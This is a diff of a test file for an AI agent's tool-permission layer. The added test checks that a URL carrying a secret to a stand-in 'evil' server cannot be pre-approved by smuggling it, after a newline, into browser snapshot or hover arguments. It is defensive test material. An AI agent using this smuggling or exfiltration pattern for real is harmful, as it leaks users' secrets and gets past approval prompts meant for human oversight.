@@ -500,6 +500,19 @@ describe('what leaves by the parameters of tools', () => {
       expect(asked).toEqual([]);
     });
 
+    it('vouches for no address that it was only asked about', async () => {
+      const url = `${evil.url}/echo?d=${SECRET}`;
+      const bare = url.slice('http://'.length);
+      for (const asking of [
+        call('browser', { action: 'snapshot', targetId: `x\n${bare}` }),
+        act({ kind: 'hover', ref: `x\n${bare}` }),
+      ]) {
+        const { asked } = await after('page', [asking, call('web_fetch', { url })]);
+        expect(asked.at(-1)).toBe(`web_fetch url: ${url}`);
+      }
+      expect(evil.asked('/echo')).toEqual([]);
+    });
+
     it('types what was allowed, into the page that was named', async () => {
       decision = 'allow-once';
       const { asked } = await after('nothing', [
